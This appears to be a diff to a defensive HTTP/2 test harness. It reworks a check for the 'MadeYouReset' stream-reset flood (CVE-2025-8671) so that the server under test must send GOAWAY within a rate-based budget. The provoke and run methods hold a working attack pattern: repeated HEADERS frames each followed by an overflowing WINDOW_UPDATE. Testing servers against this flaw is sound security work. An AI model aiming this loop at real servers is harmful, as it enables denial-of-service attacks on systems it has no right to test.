@@ -1,5 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """Streams that are opened to be reset."""
+import time
+
 import http2
 from attack import Attack
 from victims import expect, wait_until
@@ -67,14 +69,17 @@ class ResetInAnotherTurn(RapidReset):
 
 class MadeYouReset(Attack):
     """Requests that make the victim reset them, one at a time (CVE-2025-8671): an overflowing WINDOW_UPDATE"""
-    most = 1150
+    burst, per_second = 1000, 33  # the defaults of peer_limits
 
     def provoke(self, stream):
         return http2.headers(stream, http2.request_block(CHAT)) + http2.window_update(stream, 0x7fffffff)
 
     def run(self, at):
         with at.connect() as connection:
-            for number in range(self.most):
+            began, number = time.monotonic(), 0
+            while True:
+                allowed = self.burst + self.per_second * (time.monotonic() - began) + 20
+                expect(number < allowed, f'no GOAWAY after {number} streams')
                 stream = 2 * number + 1
                 connection.send(self.provoke(stream), reading=True)
                 connection.take_in(lambda: connection.answer(stream).error is not None or connection.goaway
@@ -84,8 +89,7 @@ class MadeYouReset(Attack):
                 found = connection.answer(stream)
                 expect(found.error is not None or found.ended, f'stream {stream} is neither reset nor answered')
                 del connection.answers[stream]
-            else:
-                expect(False, f'no GOAWAY after {self.most} streams')
+                number += 1
             at.note('streams', number + 1)
 
 
